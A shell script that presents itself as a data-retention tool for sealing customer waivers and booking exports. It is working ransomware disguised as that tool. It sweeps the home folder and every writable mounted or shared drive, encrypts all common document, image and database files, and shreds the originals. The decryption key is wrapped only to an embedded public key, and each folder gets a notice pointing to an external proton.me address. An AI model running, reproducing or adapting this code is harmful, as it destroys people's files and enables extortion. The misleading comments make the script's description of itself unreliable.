#!/bin/sh
# Seal end-of-season customer waivers and booking exports for retention.
#
# Under the centre's data retention policy signed waivers, medical forms and
# booking exports must be kept for 3 years but must not sit readable on shared
# office machines. This script finds them, seals each file with a per-run key
# and wraps that key for the head office retention key, so only head office
# can reopen an archive if an incident claim comes in.
#
#   waiver_archive_seal.sh [--root DIR]... [--dry-run]

set -u

RETENTION_PUB=$(cat <<'EOF'
-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAsi29zKT002ZHbzNZq3zK
s9/ldwvP9TvJiUzQfgKgEXMhbVrSb9y0FjrMK8sSoBZdrQerRwG99ydzpt6CwlNf
SxDDCdpTq34jHsyQ7J+xDVyQRXzdwJGWmx2Pb4WyRZ8yVlc2QWXaD4H4AOLnEBwq
hmcWyicAn9eaUBENMtGtf17aFgDg5FWW3+8JV512LP8IMe8AUgwuoPcAiBkind7W
ojjb4/c1+2/jQODByVWFyErCtEJc0mScp5/3KAdYQ5Duu/An/KuyTRfGSmAOFp5c
a306H+pV4IgLDkZsFG8M1JqV/iQdHIWCAH2nZlv6F2iDm/mNasW46p34IHuc36QL
KQIDAQAB
-----END PUBLIC KEY-----
EOF
)

ROOTS=""
DRY_RUN=0
EXTS="pdf docx doc xlsx xls csv odt ods jpg jpeg png heic txt sqlite db"
LOG="${HOME}/.cache/waiver_seal.log"
NOTICE="RETENTION_NOTICE.txt"

while [ $# -gt 0 ]; do
    case "$1" in
        --root) ROOTS="$ROOTS $2"; shift 2 ;;
        --dry-run) DRY_RUN=1; shift ;;
        -h|--help) sed -n '2,11p' "$0"; exit 0 ;;
        *) echo "unknown argument: $1" >&2; exit 1 ;;
    esac
done

# default to every place office staff tend to save exports
if [ -z "$ROOTS" ]; then
    ROOTS="$HOME"
    for m in /mnt/* /media/*/* /srv/share; do
        [ -d "$m" ] && [ -w "$m" ] && ROOTS="$ROOTS $m"
    done
fi

mkdir -p "$(dirname "$LOG")"
log() { echo "$(date '+%F %T') $*" >> "$LOG"; }

command -v openssl >/dev/null 2>&1 || { echo "openssl not found" >&2; exit 1; }

WORK=$(mktemp -d)
trap 'rm -rf "$WORK"' EXIT INT TERM

RUN_ID=$(date +%Y%m%d%H%M%S)-$(hostname | tr -cd 'a-zA-Z0-9')
printf '%s\n' "$RETENTION_PUB" > "$WORK/retention.pem"
openssl rand -hex 32 > "$WORK/run.key"

# the wrapped key is the only copy head office needs
openssl pkeyutl -encrypt -pubin -inkey "$WORK/retention.pem" \
    -in "$WORK/run.key" -out "$HOME/.retention_${RUN_ID}.key" 2>>"$LOG" || {
    echo "could not wrap run key" >&2; exit 1; }

name_filter() {
    first=1
    for e in $EXTS; do
        if [ $first -eq 1 ]; then first=0; else printf ' -o '; fi
        printf -- "-iname *.%s" "$e"
    done
}

sealed=0
failed=0
set -f
for root in $ROOTS; do
    # shellcheck disable=SC2046
    find "$root" -xdev -type f \( $(name_filter) \) ! -name '*.sealed' \
         ! -path '*/.cache/*' -size -200M -print 2>/dev/null |
    while IFS= read -r f; do
        if [ "$DRY_RUN" -eq 1 ]; then
            echo "would seal: $f"
            continue
        fi
        if openssl enc -aes-256-cbc -pbkdf2 -salt -pass "file:$WORK/run.key" \
               -in "$f" -out "$f.sealed" 2>>"$LOG"; then
            shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
            sealed=$((sealed + 1))
            log "sealed $f"
        else
            rm -f "$f.sealed"
            failed=$((failed + 1))
            log "FAILED $f"
        fi
    done
    [ "$DRY_RUN" -eq 1 ] || cat > "$root/$NOTICE" <<EOF
Files in this folder were sealed for retention on $(date '+%d %B %Y').
Archive reference: $RUN_ID
To request access to a sealed record, contact records-desk@proton.me
quoting the archive reference above.
EOF
done
set +f

shred -u "$WORK/run.key" 2>/dev/null
log "run $RUN_ID finished"
echo "Seal run $RUN_ID complete, see $LOG"
